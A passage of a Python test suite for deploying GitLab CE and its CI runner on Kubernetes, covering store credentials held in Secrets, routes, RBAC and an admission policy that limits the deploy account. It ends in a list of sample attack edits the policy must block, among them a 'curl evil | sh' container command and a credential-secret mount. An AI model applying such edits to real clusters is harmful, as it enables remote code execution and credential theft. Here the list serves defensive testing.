"""GitLab and its runner: wiring to the data plane's stores (PostgreSQL, DragonflyDB, object storage) through
Secrets only, routes on the shared gateway, HA and budgets, backups, metrics, namespaces; the runner's token,
job namespace, RBAC and deploy identity; the config errors that guard them; switching GitLab off."""

from __future__ import annotations

import copy
import dataclasses
import tomllib
from types import SimpleNamespace

import pytest
import yaml

from components import charts
from components.host.profiles import CI_BUILD_APPARMOR_PROFILE, apparmor_profile
from components.platform import gitlab, gitlab_runner
from components.services.namespaces import LAYER_LABEL
from config import load
from config.catalog import CI_NAMESPACE, DEPLOYER_SERVICE_ACCOUNT, SERVICE_CONTAINER
from config.data import BUCKET_PURPOSES
from config.platform import NEEDS
from config.rules import RUNNER_TOKEN
from policy.rules import Subject, no_plaintext_secrets, walk
from tests import cel_subset, validators, variants
from tests.conftest import ROOT, SECRET_KEYS, base_raw, k3s_config, script_param
from tests.stores import RELEASE, SECRET, chart_of, config_problems, policy, ports, stack_config, string_data
from tools.mockrun import Run

NS = "kubernetes:core/v1:Namespace"
PVC = "kubernetes:core/v1:PersistentVolumeClaim"
HTTPROUTE = "kubernetes:gateway.networking.k8s.io/v1:HTTPRoute"
CNP = "kubernetes:cilium.io/v2:CiliumNetworkPolicy"
PASSWORD = "random:index/randomPassword:RandomPassword"
ROLE = "kubernetes:rbac.authorization.k8s.io/v1:Role"
ROLE_BINDING = "kubernetes:rbac.authorization.k8s.io/v1:RoleBinding"
CLUSTER_RBAC = ("kubernetes:rbac.authorization.k8s.io/v1:ClusterRole",
                "kubernetes:rbac.authorization.k8s.io/v1:ClusterRoleBinding")
RUNNER_TOKEN_VALUE = variants.RUNNER_TOKEN_VALUE
EXTERNAL_S3 = variants.GITLAB_S3


@pytest.fixture(scope="module")
def small() -> Run:
    """Staging (one of everything) with GitLab on, its objects in the provider's S3 (backend external): a variant
    shared with test_ads (tests/variants.py)."""
    return variants.staging_gitlab()


@pytest.fixture(scope="module")
def with_runner() -> Run:
    """Production with the runner on and its token set as a secret (the shared production variant)."""
    return variants.production_variant()


def gitlab_values(run: Run) -> dict:
    return run.named("gitlab", RELEASE).inputs["values"]


def test_the_charts_jobs_are_named_by_a_hash_of_the_chart_version_and_our_values(production, small, monkeypatch):
    # The toolbox Jobs wait for the current migrations Job by its name (`gitlab-migrations-<suffix>`, toolbox_job.py):
    # the chart's own suffix hashes its merged values, which we cannot know, so the suffix is ours, by the same rule: a
    # changed value or chart version names a new Job (the chart's Jobs are immutable), an unchanged one keeps it.
    suffix = gitlab_values(production)["global"]["job"]["nameSuffixOverride"]
    assert len(suffix) == gitlab.JOB_SUFFIX_LENGTH and int(suffix, 16) >= 0
    assert gitlab_values(small)["global"]["job"]["nameSuffixOverride"] != suffix
    chosen = {"global": {"edition": "ce"}, "gitlab": {"webservice": {"workerProcesses": 2}}}
    same = gitlab.job_suffix(chosen)
    assert gitlab.job_suffix(copy.deepcopy(chosen)) == same
    assert gitlab.job_suffix({**chosen, "gitlab": {"webservice": {"workerProcesses": 3}}}) != same
    monkeypatch.setattr(charts, "GITLAB", dataclasses.replace(charts.GITLAB, version="99.0.0"))
    assert gitlab.job_suffix(chosen) != same


def runner_values(run: Run) -> dict:
    return run.named("gitlab-runner", RELEASE).inputs["values"]


def secret_data(run: Run, name: str) -> dict:
    return string_data(run.named(name, SECRET))


def in_namespace(run: Run, namespace: str) -> list:
    return [r for r in run.resources if (r.inputs.get("metadata") or {}).get("namespace") == namespace]


def plain_strings(run: Run) -> list[str]:
    """Every string some resource holds outside a secret."""
    return [v for r in run.resources for _, v, secret in walk(r.inputs) if isinstance(v, str) and not secret]


# --- the chart -------------------------------------------------------------------------------------------
def test_gitlab_is_the_pinned_chart_in_its_own_namespace(production):
    assert chart_of(production, "gitlab") == ("gitlab", "10.2.3", "https://charts.gitlab.io", "gitlab", False)
    assert charts.CHARTS["gitlab"] is charts.GITLAB
    # A slow first install (database migrations) must not be rolled back halfway.
    assert production.named("gitlab", RELEASE).inputs["atomic"] is False


def test_gitlabs_release_waits_past_its_databases_own_wait_and_the_migrations(production):
    """The release installs while PostgreSQL bootstraps (it does not depend on its Database): Helm's wait must outlast
    the database's own readiness timeout plus the migrations and a Rails boot after it (as for its Redis), or a slow
    bootstrap fails `pulumi up` though GitLab would have come up. Other releases keep Helm's 900 s."""
    from components.data.postgres import READY_TIMEOUT_SECONDS
    from components.data import dragonfly
    from tools.plan.timing import AFTER_STORES, DATABASE, DRAGONFLY
    timeout = production.named("gitlab", RELEASE).inputs["timeout"]
    after = {type_: seconds for type_, _, seconds in AFTER_STORES["gitlab"]}
    assert timeout >= READY_TIMEOUT_SECONDS + after[DATABASE]
    # Nor for its Redis (the DragonflyDB instance's own wait, then the migrations and a Rails boot).
    assert timeout >= dragonfly.READY_TIMEOUT_SECONDS + after[DRAGONFLY]
    assert production.named("gitlab-runner", RELEASE).inputs["timeout"] == 900


def test_gitlab_is_the_community_edition(production):
    # The platform promises GitLab CE (the chart's default would be EE).
    assert gitlab_values(production)["global"]["edition"] == "ce"


def test_the_charts_own_ingress_stores_and_extras_are_off(production):
    values = gitlab_values(production)
    glob = values["global"]
    assert glob["gatewayApi"] == {"enabled": False, "installEnvoy": False, "configureCertmanager": False}
    assert glob["ingress"]["enabled"] is False and glob["ingress"]["configureCertmanager"] is False
    assert values["installCertmanager"] is False and values["nginx-ingress"] == {"enabled": False}
    assert values["prometheus"] == {"install": False} and values["gitlab-runner"] == {"install": False}
    assert glob["minio"] == {"enabled": False}
    assert "postgresql" not in values and "redis" not in values  # chart 10: no bundled stores at all
    # The shared gateway is HTTPS only (no SSH), and KAS would need its own host and a gRPC route.
    assert values["gitlab"]["gitlab-shell"] == {"enabled": False}
    assert glob["kas"] == {"enabled": False} and glob["pages"] == {"enabled": False}


# --- PostgreSQL and DragonflyDB ------------------------------------------------------------------------------
def test_gitlab_uses_the_cnpg_primary_and_its_own_database_secret(production):
    psql = gitlab_values(production)["global"]["psql"]
    assert psql == {"host": "postgres-rw.postgres.svc", "port": 5432, "database": "gitlab", "username": "gitlab",
                    "password": {"useSecret": True, "secret": "gitlab-postgres", "key": "password"}}
    copy = production.named("gitlab-postgres", SECRET)
    assert copy.inputs["metadata"] == {"name": "gitlab-postgres", "namespace": "gitlab"}
    # The same generated password CloudNativePG's role uses (a copy of its basic-auth Secret).
    assert secret_data(production, "gitlab-postgres") == secret_data(production, "postgres-gitlab-credentials")
    # The chart verifies TLS only with a client certificate: TLS is required, the server is not verified.
    assert gitlab_values(production)["global"]["extraEnv"] == {"PGSSLMODE": "require"}


def test_gitlab_uses_the_primary_of_its_own_dragonfly_with_a_copy_of_its_password(production):
    """Its own instance (not the ad services'), with a password no one else holds."""
    redis = gitlab_values(production)["global"]["redis"]
    assert redis == {"host": "dragonfly.dragonfly-gitlab.svc.cluster.local", "port": 6379, "database": 1,
                     "auth": {"enabled": True, "secret": "gitlab-redis", "key": "password"}}
    assert secret_data(production, "gitlab-redis") == secret_data(production, "dragonfly-gitlab-user-gitlab")
    assert secret_data(production, "gitlab-redis")["password"] == secret_data(production, "dragonfly-gitlab-auth")[
        "password"]
    assert production.named("gitlab-redis", SECRET).inputs["metadata"]["namespace"] == "gitlab"


def test_no_credential_reaches_the_helm_values(production):
    passwords = {secret_data(production, name)["password"]
                 for name in ("gitlab-postgres", "gitlab-redis", "gitlab-initial-root-password")}
    assert len(passwords) == 3
    release = production.named("gitlab", RELEASE)
    leaves = [v for _, v, _ in walk(release.inputs["values"]) if isinstance(v, str)]
    assert not passwords & set(leaves)
    assert list(no_plaintext_secrets(Subject(release.urn, release.type, release.name, release.inputs), None)) == []


# --- object storage --------------------------------------------------------------------------------------
def test_objects_use_one_connection_and_a_bucket_per_type_in_seaweedfs(production):
    values = gitlab_values(production)
    app = values["global"]["appConfig"]
    assert app["object_store"]["enabled"] is True
    assert app["object_store"]["connection"] == {"secret": "gitlab-object-storage", "key": "connection"}
    seaweedfs = production.named("seaweedfs", RELEASE).inputs["values"]
    created = {b["name"] for b in seaweedfs["filer"]["s3"]["createBuckets"]}
    buckets = [app[kind]["bucket"] for kind in ("artifacts", "lfs", "uploads", "packages", "externalDiffs",
                                                "terraformState", "ciSecureFiles", "dependencyProxy")]
    assert all(app[kind]["enabled"] for kind in gitlab.OBJECT_BUCKETS)
    assert len(set(buckets)) == len(buckets), "a restore needs every object type in its own bucket"
    others = [app["backups"]["bucket"], app["backups"]["tmpBucket"], values["global"]["registry"]["bucket"]]
    assert set(buckets + others) <= created, "GitLab writes only buckets SeaweedFS creates"
    assert set(NEEDS["gitlab"].buckets) <= set(BUCKET_PURPOSES)
    assert set(gitlab.OBJECT_BUCKETS.values()) | {"registry", "gitlab-backups", "gitlab-tmp"} == \
        set(NEEDS["gitlab"].buckets)
    connection = yaml.safe_load(secret_data(production, "gitlab-object-storage")["connection"])
    assert connection["endpoint"] == "http://s3.seaweedfs.svc:8333" and connection["path_style"] is True
    assert connection["provider"] == "AWS" and connection["aws_signature_version"] == 4
    seaweed = secret_data(production, "seaweedfs-s3-config")["seaweedfs_s3_config"]
    assert connection["aws_access_key_id"] in seaweed and connection["aws_secret_access_key"] in seaweed


def test_registry_and_backups_read_the_same_store(production):
    values = gitlab_values(production)
    storage = yaml.safe_load(secret_data(production, "gitlab-registry-storage")["config"])["s3"]
    assert storage["bucket"] == values["global"]["registry"]["bucket"] == "registry"
    assert storage["regionendpoint"] == "http://s3.seaweedfs.svc:8333" and storage["pathstyle"] is True
    registry = values["registry"]["storage"]
    # The in-cluster store is unreachable for docker clients: blobs stream through the registry.
    assert registry == {"secret": "gitlab-registry-storage", "key": "config", "redirect": {"disable": True}}
    s3cfg = secret_data(production, "gitlab-backup-storage")["config"]
    assert "host_base = s3.seaweedfs.svc:8333\n" in s3cfg and "use_https = False\n" in s3cfg
    assert "host_bucket = s3.seaweedfs.svc:8333\n" in s3cfg  # path-style
    assert f"access_key = {storage['accesskey']}\n" in s3cfg


def test_external_object_storage_uses_the_providers_endpoint_and_bucket_names(small):
    app = gitlab_values(small)["global"]["appConfig"]
    assert app["lfs"]["bucket"] == "adp-staging-gitlab-lfs" and app["artifacts"]["bucket"] == "adp-staging-gitlab"
    assert app["backups"] == {"bucket": "adp-staging-gitlab-backups", "tmpBucket": "adp-staging-gitlab-tmp"}
    connection = yaml.safe_load(secret_data(small, "gitlab-object-storage")["connection"])
    assert connection["endpoint"] == EXTERNAL_S3["endpoint"] and connection["region"] == "nbg1"
    assert connection["path_style"] is False
    assert connection["aws_access_key_id"] == variants.GITLAB_S3_KEY_ID
    storage = yaml.safe_load(secret_data(small, "gitlab-registry-storage")["config"])["s3"]
    assert storage["bucket"] == "adp-staging-registry" and storage["regionendpoint"] == EXTERNAL_S3["endpoint"]
    assert gitlab_values(small)["registry"]["storage"]["redirect"] == {"disable": False}
    s3cfg = secret_data(small, "gitlab-backup-storage")["config"]
    assert "host_bucket = %(bucket)s.nbg1.your-objectstorage.com\n" in s3cfg and "use_https = True\n" in s3cfg
    # The provider is outside the cluster: HTTPS out, no SeaweedFS peer.
    assert ports(policy(small, "gitlab", "allow-egress-internet")["egress"][0]) == [443]
    assert not any(r.name == "netpol-gitlab-allow-to-seaweedfs" for r in small.resources)


# --- routes ------------------------------------------------------------------------------------------------
@pytest.mark.parametrize("label, service, port", [("gitlab", "gitlab-webservice-default", 8181),
                                                  ("registry", "gitlab-registry", 5000)])
def test_gitlab_and_its_registry_are_routed_on_the_shared_gateway(production, label, service, port):
    [route] = [r for r in production.of_type(HTTPROUTE) if r.inputs["metadata"]["name"] == label
               and r.inputs["metadata"]["namespace"] == "gitlab"]
    spec = route.inputs["spec"]
    assert spec["hostnames"] == [f"{label}.ads.example.com"]
    assert spec["parentRefs"] == [{"group": "gateway.networking.k8s.io", "kind": "Gateway", "name": "shared",
                                   "namespace": "gateway", "sectionName": f"https-{label}"}]
    assert spec["rules"][-1]["backendRefs"] == [{"name": service, "port": port}]
    hosts = gitlab_values(production)["global"]["hosts"]
    assert hosts[label] == {"name": f"{label}.ads.example.com", "https": True} and hosts["https"] is True
    assert production.outputs["platform"]["gitlab"]["urls"][label] == f"https://{label}.ads.example.com"


def test_the_gitlab_namespace_admits_the_gateway_and_prometheus_and_reaches_the_stores(production):
    ns = production.named("ns-gitlab", NS).inputs["metadata"]
    assert ns["labels"]["pod-security.kubernetes.io/enforce"] == "restricted"
    assert ns["labels"][LAYER_LABEL] == "platform"  # the stores admit the platform layer on client ports
    assert production.named("netpol-gitlab-allow-from-gateway", CNP)
    assert ports(policy(production, "gitlab", "allow-from-monitoring")["ingress"][0]) == sorted(
        gitlab.METRICS_PORTS.values())
    assert ports(policy(production, "gitlab", "allow-to-postgres")["egress"][0]) == [5432]
    assert ports(policy(production, "gitlab", "allow-to-dragonfly-gitlab")["egress"][0]) == [6379]
    assert ports(policy(production, "gitlab", "allow-to-seaweedfs")["egress"][0]) == [8333]
    # The restricted level needs a seccomp profile on Gitaly's pods, which its chart values lack.
    assert gitlab_values(production)["gitlab"]["gitaly"]["securityContext"]["seccompProfile"] == \
        {"type": "RuntimeDefault"}


# --- HA, volumes, root password, backups, metrics ---------------------------------------------------------
def test_production_runs_two_of_each_stateless_part_with_budgets_staging_one(production, small):
    for run, want in ((production, 2), (small, 1)):
        values = gitlab_values(run)
        web, sidekiq, registry = values["gitlab"]["webservice"], values["gitlab"]["sidekiq"], values["registry"]
        assert web["minReplicas"] == sidekiq["minReplicas"] == registry["hpa"]["minReplicas"] == want
        assert web["maxReplicas"] >= want and registry["hpa"]["maxReplicas"] >= want
        # The chart renders a PodDisruptionBudget per component with this limit.
        assert web["maxUnavailable"] == sidekiq["maxUnavailable"] == registry["maxUnavailable"] == 1
    for app in ("webservice", "sidekiq"):
        [spread] = gitlab_values(production)["gitlab"][app]["topologySpreadConstraints"]
        assert spread["labelSelector"]["matchLabels"] == {"app": app, "release": "gitlab"}
        assert spread["whenUnsatisfiable"] == "DoNotSchedule"
        assert gitlab_values(small)["gitlab"][app]["topologySpreadConstraints"] == []


def test_gitaly_runs_once_on_a_volume_production_protects(production, small):
    for run, protected in ((production, True), (small, False)):
        claim = run.named("gitlab-gitaly-repositories", PVC)
        settings = stack_config(run).platform.gitlab
        assert claim.protect is protected
        # The name the StatefulSet's claim template gives replica 0, so the StatefulSet adopts it.
        assert claim.inputs["metadata"]["name"] == "repo-data-gitlab-gitaly-0"
        assert claim.inputs["spec"]["resources"]["requests"]["storage"] == settings.repository_storage_size
        gitaly = gitlab_values(run)["gitlab"]["gitaly"]
        assert gitaly["persistence"]["size"] == settings.repository_storage_size
        assert gitaly["persistence"]["storageClass"] == claim.inputs["spec"]["storageClassName"]
        assert "replicas" not in gitaly and not gitlab_values(run)["global"].get("praefect")


def test_the_root_password_is_generated_and_referenced_by_name(production):
    assert gitlab_values(production)["global"]["initialRootPassword"] == {
        "secret": "gitlab-initial-root-password", "key": "password"}
    secret = production.named("gitlab-initial-root-password", SECRET)
    assert secret.inputs["metadata"]["namespace"] == "gitlab"
    password = secret_data(production, "gitlab-initial-root-password")["password"]
    assert password.startswith("offline-gitlab-root-password")  # the RandomPassword's result (mock)
    assert production.named("gitlab-root-password", PASSWORD).protect


def test_backups_run_on_the_configured_schedule_into_object_storage(production):
    toolbox = gitlab_values(production)["gitlab"]["toolbox"]["backups"]
    assert toolbox["cron"]["enabled"] is True
    assert toolbox["cron"]["schedule"] == stack_config(production).platform.gitlab.backup_schedule == "0 4 * * *"
    assert toolbox["objectStorage"] == {"backend": "s3", "config": {"secret": "gitlab-backup-storage",
                                                                    "key": "config"}}
    assert "--maximum-backups 7" in toolbox["cron"]["extraArgs"]
    assert toolbox["cron"]["persistence"]["size"] == "400Gi"  # twice the repositories: staging + tarball


def test_the_charts_monitors_are_on(production):
    values = gitlab_values(production)
    assert values["global"]["monitoring"] == {"enabled": True}
    g = values["gitlab"]
    for part in (g["webservice"], g["webservice"]["workhorse"], g["gitaly"], g["gitlab-exporter"], values["registry"]):
        assert part["metrics"] == {"enabled": True, "serviceMonitor": {"enabled": True}}
    assert g["sidekiq"]["metrics"] == {"enabled": True, "podMonitor": {"enabled": True}}


def test_every_container_has_requests_and_a_memory_limit(production):
    found = 0
    for path, value, _ in walk(gitlab_values(production)):
        if path.endswith(".resources.limits.memory") or path == "resources.limits.memory":
            found += 1
    resources = [v for p, v in _dicts(gitlab_values(production)) if p.endswith("resources")]
    assert len(resources) == found >= 12
    for res in resources:
        assert {"cpu", "memory"} <= set(res["requests"]) and "memory" in res["limits"]


def _dicts(value, path=""):
    if isinstance(value, dict):
        yield path, value
        for key, item in value.items():
            yield from _dicts(item, f"{path}.{key}" if path else key)


def test_gitlab_objects_match_their_schemas(small):
    mine = [r for r in validators.kubernetes_objects(small)
            if (r.inputs.get("metadata") or {}).get("namespace") == "gitlab" or r.name == "ns-gitlab"]
    assert len(mine) >= 10
    for obj in mine:
        validators.validate_kubernetes(obj.type, obj.inputs)


# --- switching GitLab off ---------------------------------------------------------------------------------
def test_without_gitlab_nothing_of_it_or_its_runner_exists(staging):
    assert not stack_config(staging).platform.gitlab.enabled
    assert in_namespace(staging, "gitlab") == [] and in_namespace(staging, "ci") == []
    assert not [r for r in staging.resources if r.name in ("ns-gitlab", "ns-ci", "ns-gitlab-runner")]
    assert not [r for r in staging.of_type(RELEASE) if r.name in ("gitlab", "gitlab-runner")]
    assert not [r for r in staging.resources if r.name.startswith(("gitlab-", "deployer-"))]
    assert staging.outputs["platform"]["gitlab"]["urls"] == {}


# --- the runner ------------------------------------------------------------------------------------------
def test_the_runner_registers_with_this_stacks_gitlab_after_it(with_runner):
    assert chart_of(with_runner, "gitlab-runner") == (
        "gitlab-runner", "0.91.0", "https://charts.gitlab.io", "gitlab-runner", False)
    values = runner_values(with_runner)
    assert values["gitlabUrl"] == "https://gitlab.ads.example.com"
    assert values["concurrent"] == stack_config(with_runner).platform.gitlab.runner.concurrent == 10
    runner = with_runner.named("gitlab-runner", RELEASE)
    assert with_runner.named("gitlab", RELEASE).urn in runner.dependencies


def test_the_runner_url_is_the_configured_one_when_set():
    def ctx(url: str | None) -> SimpleNamespace:
        raw = base_raw(platform={"gitlab": {"runner": {"enabled": True, **({"url": url} if url else {})}}})
        raw[RUNNER_TOKEN] = "glrt-x"
        settings = load("test", raw, SECRET_KEYS | {RUNNER_TOKEN}).config.platform
        return SimpleNamespace(settings=settings, url=lambda label: f"https://{label}.ads.example.com")
    assert gitlab_runner.gitlab_url(ctx(None)) == "https://gitlab.ads.example.com"
    assert gitlab_runner.gitlab_url(ctx("https://gitlab.example.org/")) == "https://gitlab.example.org"


def test_the_runner_token_lives_only_in_its_secret(with_runner):
    assert runner_values(with_runner)["runners"]["secret"] == gitlab_runner.TOKEN_SECRET
    token = with_runner.named(gitlab_runner.TOKEN_SECRET, SECRET)
    assert token.inputs["metadata"]["namespace"] == "gitlab-runner"
    assert secret_data(with_runner, gitlab_runner.TOKEN_SECRET) == {
        "runner-token": RUNNER_TOKEN_VALUE, "runner-registration-token": ""}  # no deprecated registration token
    assert not [s for s in plain_strings(with_runner) if RUNNER_TOKEN_VALUE in s]
    assert "runnerToken" not in runner_values(with_runner)


def test_jobs_run_in_the_ci_namespace_with_deployer_overwrite_only(with_runner):
    values = runner_values(with_runner)
    assert values["runners"]["jobNamespace"] == CI_NAMESPACE
    config = tomllib.loads(values["runners"]["config"])
    [kube] = [r["kubernetes"] for r in config["runners"]]
    assert kube["namespace"] == CI_NAMESPACE and kube["privileged"] is False
    assert kube["service_account_overwrite_allowed"] == f"^{DEPLOYER_SERVICE_ACCOUNT}$"
    assert "service_account" not in kube  # jobs run as the namespace's default account, which has no rights
    for part in ("", "helper_", "service_"):
        assert kube[f"{part}cpu_request"] and kube[f"{part}memory_request"] and kube[f"{part}memory_limit"]
    assert kube["image"] == charts.RUNNER_DEFAULT_JOB_IMAGE and ":" in kube["image"].rsplit("/", 1)[-1]


def test_build_containers_run_under_the_apparmor_profile_every_node_loads(with_runner):
    """Buildah mounts inside its own user namespace: the build container needs the node's Localhost profile that
    allows it (containerd's default denies every mount), and no seccomp profile (RuntimeDefault refuses unshare)."""
    [kube] = [r["kubernetes"] for r in tomllib.loads(runner_values(with_runner)["runners"]["config"])["runners"]]
    build = kube["build_container_security_context"]
    assert build == {"app_armor_profile": {"type": "Localhost", "localhost_profile": CI_BUILD_APPARMOR_PROFILE}}
    assert "pod_security_context" not in kube and "helper_container_security_context" not in kube
    commands = with_runner.of_type("command:remote:Command")
    nodes = [c.name.removeprefix("tune-") for c in commands if c.name.startswith("tune-")]
    assert len(nodes) >= 3 and {f"k3s-{node}" for node in nodes} <= {c.name for c in commands}
    for node in nodes:
        script = with_runner.named(f"tune-{node}", "command:remote:Command").inputs["stdin"]
        assert script_param(script, "APPARMOR_PROFILE_NAME") == CI_BUILD_APPARMOR_PROFILE, node
        assert script_param(script, "APPARMOR_PROFILE") == apparmor_profile(CI_BUILD_APPARMOR_PROFILE), node
        # K3s keeps the kubelet's default of no seccomp profile for pods that name none.
        assert not [arg for arg in k3s_config(with_runner, node)["kubelet-arg"] if "seccomp" in arg], node


def test_the_build_containers_profile_is_a_field_of_the_clusters_kubernetes():
    """The runner turns the TOML into the container's securityContext.appArmorProfile (GA since 1.30): the
    cluster's Kubernetes schema has it (the deprecated annotation is not used)."""
    profile = gitlab_runner.BUILD_APPARMOR_PROFILE
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "runner-job", "namespace": CI_NAMESPACE},
           "spec": {"containers": [{"name": "build", "image": charts.RUNNER_DEFAULT_JOB_IMAGE, "securityContext": {
               "appArmorProfile": {"type": profile["type"], "localhostProfile": profile["localhost_profile"]}}}]}}
    validators.validate_kubernetes("kubernetes:core/v1:Pod", pod)
    pod["spec"]["containers"][0]["securityContext"]["appArmor"] = {"type": "Localhost"}
    with pytest.raises(Exception):
        validators.validate_kubernetes("kubernetes:core/v1:Pod", pod)


def test_the_manager_may_run_jobs_in_ci_only(with_runner):
    rbac = runner_values(with_runner)["rbac"]
    assert rbac["create"] is True and rbac["clusterWideAccess"] is False  # a Role in jobNamespace, not cluster-wide
    granted = {(res, verb) for rule in rbac["rules"] for res in rule["resources"] for verb in rule["verbs"]}
    assert ("pods", "create") in granted and ("secrets", "create") in granted and ("pods/exec", "create") in granted
    assert not any("*" in rule["resources"] or "*" in rule["verbs"] for rule in rbac["rules"])
    assert all(rule["apiGroups"] == [""] for rule in rbac["rules"])
    assert not [r for r in with_runner.resources if r.type in CLUSTER_RBAC
                and ("runner" in r.name or DEPLOYER_SERVICE_ACCOUNT in r.name)]


def test_the_ci_namespace_is_baseline_under_a_quota_and_no_store_admits_it(with_runner):
    ci = with_runner.named("ns-ci", NS).inputs["metadata"]
    assert ci["labels"]["pod-security.kubernetes.io/enforce"] == "baseline"
    assert "buildah" in ci["annotations"]["adplatform.io/pod-security-why"]
    assert ci["labels"][LAYER_LABEL] == "ci"
    manager = with_runner.named("ns-gitlab-runner", NS).inputs["metadata"]["labels"]
    assert manager["pod-security.kubernetes.io/enforce"] == "restricted"
    runner = stack_config(with_runner).platform.gitlab.runner
    quota = with_runner.named("ci-quota").inputs["spec"]["hard"]
    assert (quota["requests.cpu"], quota["requests.memory"], quota["limits.memory"]) == (
        runner.requests_cpu, runner.requests_memory, runner.limits_memory)
    assert with_runner.named("ci-limits").inputs["metadata"]["namespace"] == CI_NAMESPACE
    assert ports(policy(with_runner, CI_NAMESPACE, "allow-egress-internet")["egress"][0]) == [80, 443]
    # The stores admit client namespaces by layer label (platform, teams): `ci` carries neither.
    postgres_from = [p for r in with_runner.resources if r.name.startswith("netpol-postgres-allow-from-")
                     for rule in r.inputs["spec"].get("ingress", []) for p in rule["from"]]
    layers = {p["namespaceSelector"]["matchLabels"].get(LAYER_LABEL) for p in postgres_from}
    assert "ci" not in layers and "platform" in layers


def test_the_deployer_may_only_roll_team_deployments(with_runner):
    account = with_runner.named("ci-deployer").inputs["metadata"]
    assert account == {**account, "name": DEPLOYER_SERVICE_ACCOUNT, "namespace": CI_NAMESPACE}
    teams = [t.name for t in stack_config(with_runner).cluster_services.teams]
    roles = with_runner.of_type(ROLE)
    deployer_roles = [r for r in roles if r.inputs["metadata"]["name"] == DEPLOYER_SERVICE_ACCOUNT]
    assert sorted(r.inputs["metadata"]["namespace"] for r in deployer_roles) == sorted(teams) == ["ads"]
    [role] = deployer_roles
    granted = {(g, res, verb) for rule in role.inputs["rules"] for g in rule["apiGroups"]
               for res in rule["resources"] for verb in rule["verbs"]}
    # What templates/gitlab-ci/scripts/deploy.sh runs (test_ci_templates checks it command by command).
    assert granted == {("apps", "deployments", v) for v in ("get", "list", "watch", "patch")}
    [binding] = [b for b in with_runner.of_type(ROLE_BINDING)
                 if b.inputs["metadata"]["name"] == DEPLOYER_SERVICE_ACCOUNT]
    assert binding.inputs["metadata"]["namespace"] == "ads"
    assert binding.inputs["subjects"] == [{"kind": "ServiceAccount", "name": DEPLOYER_SERVICE_ACCOUNT,
                                           "namespace": CI_NAMESPACE}]
    assert binding.inputs["roleRef"]["kind"] == "Role" and binding.inputs["roleRef"]["name"] == DEPLOYER_SERVICE_ACCOUNT


VAP = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicy"
VAP_BINDING = "kubernetes:admissionregistration.k8s.io/v1:ValidatingAdmissionPolicyBinding"
DEPLOYER_REQUEST = {"userInfo": {"username": f"system:serviceaccount:{CI_NAMESPACE}:{DEPLOYER_SERVICE_ACCOUNT}"}}


def service_deployment() -> dict:
    """A Deployment as the API server stores it: the service container, a sidecar, a Secret volume."""
    return {"apiVersion": "apps/v1", "kind": "Deployment",
            "metadata": {"name": "bidding", "namespace": "ads", "generation": 4, "resourceVersion": "100",
                         "labels": {"app.kubernetes.io/name": "bidding"},
                         "annotations": {"deployment.kubernetes.io/revision": "4"},
                         "managedFields": [{"manager": "pulumi-kubernetes"}]},
            "spec": {"replicas": 3, "selector": {"matchLabels": {"app": "bidding"}},
                     "template": {"metadata": {"labels": {"app": "bidding"}},
                                  "spec": {"serviceAccountName": "bidding", "automountServiceAccountToken": False,
                                           "containers": [
                                               {"name": SERVICE_CONTAINER, "image": "registry/ads/bidding:1",
                                                "args": ["--port=8080"], "env": [{"name": "A", "value": "1"}]},
                                               {"name": "proxy", "image": "registry/proxy:2"}],
                                           "volumes": [{"name": "tls", "secret": {"secretName": "bidding-tls"}}]}}},
            "status": {"replicas": 3}}


def deployer_patch(edit) -> tuple[dict, dict]:
    """(new, old): the stored Deployment and what it becomes after `edit`, with what the API server changes on
    every update (generation, managedFields)."""
    old = service_deployment()
    new = copy.deepcopy(old)
    edit(new)
    new["metadata"]["generation"] += 1
    new["metadata"]["managedFields"] = [*old["metadata"]["managedFields"], {"manager": "kubectl-set"}]
    return new, old


def _set(path: str, value):
    def edit(obj):
        *parents, last = path.split(".")
        for part in parents:
            obj = obj[int(part)] if part.isdigit() else obj.setdefault(part, {})
        obj[last] = value
    return edit


def _service_image(obj):
    obj["spec"]["template"]["spec"]["containers"][0]["image"] = "registry/ads/bidding:2"


def _previous_image(obj):
    obj["metadata"]["annotations"][gitlab_runner.PREVIOUS_IMAGE_ANNOTATION] = "registry/ads/bidding:1"


def test_the_deployer_policy_is_created_before_the_deployer_and_bound(with_runner):
    policy = with_runner.named("deployer-policy", VAP)
    binding = with_runner.named("deployer-policy", VAP_BINDING)
    assert policy.inputs["spec"] == gitlab_runner.deployer_policy_spec()
    assert binding.inputs["spec"] == {"policyName": gitlab_runner.DEPLOYER_POLICY, "validationActions": ["Deny"]}
    assert policy.urn in binding.dependencies
    assert policy.urn in with_runner.named("ci-deployer").dependencies  # no deploy job before the policy holds
    for obj in (policy, binding):
        validators.validate_kubernetes(obj.type, obj.inputs)
    spec = policy.inputs["spec"]
    assert spec["failurePolicy"] == "Fail"
    assert spec["matchConstraints"]["resourceRules"] == [
        {"apiGroups": ["apps"], "apiVersions": ["*"], "operations": ["UPDATE"], "resources": ["deployments"]}]


def test_the_deployer_policy_names_what_deploy_sh_changes():
    """The annotation and container the policy lets through are the ones the deploy script writes."""
    script = (ROOT / "templates" / "gitlab-ci" / "scripts" / "deploy.sh").read_text()
    assert f'PREVIOUS_ANNOTATION="{gitlab_runner.PREVIOUS_IMAGE_ANNOTATION}"' in script
    assert f"container=${{SERVICE_CONTAINER:-{SERVICE_CONTAINER}}}" in script


@pytest.mark.parametrize("edits", [[_service_image], [_previous_image], [_service_image, _previous_image], []],
                         ids=["set-image", "annotate", "both", "no-op"])
def test_the_deployer_may_set_the_service_image_and_the_previous_image_annotation(edits):
    new, old = deployer_patch(lambda obj: [edit(obj) for edit in edits])
    assert cel_subset.admits(gitlab_runner.deployer_policy_spec(), DEPLOYER_REQUEST, new, old)


def test_the_first_annotation_on_a_deployment_without_any_is_admitted():
    def first(obj):
        obj["metadata"]["annotations"] = {gitlab_runner.PREVIOUS_IMAGE_ANNOTATION: "registry/ads/bidding:1"}
    old = service_deployment()
    del old["metadata"]["annotations"]
    new = copy.deepcopy(old)
    first(new)
    assert cel_subset.admits(gitlab_runner.deployer_policy_spec(), DEPLOYER_REQUEST, new, old)


ATTACKS = {
    "service-account": _set("spec.template.spec.serviceAccountName", "admin-sa"),
    "new-secret-volume": lambda o: o["spec"]["template"]["spec"]["volumes"].append(
        {"name": "x", "secret": {"secretName": "postgres-credentials"}}),
    "command": _set("spec.template.spec.containers.0.command", ["sh", "-c", "curl evil | sh"]),
    "env": _set("spec.template.spec.containers.0.env", [{"name": "A", "value": "2"}]),
    "sidecar-image": _set("spec.template.spec.containers.1.image", "evil/proxy:1"),
    "extra-container": lambda o: o["spec"]["template"]["spec"]["containers"].append({"name": "x", "image": "evil:1"}),
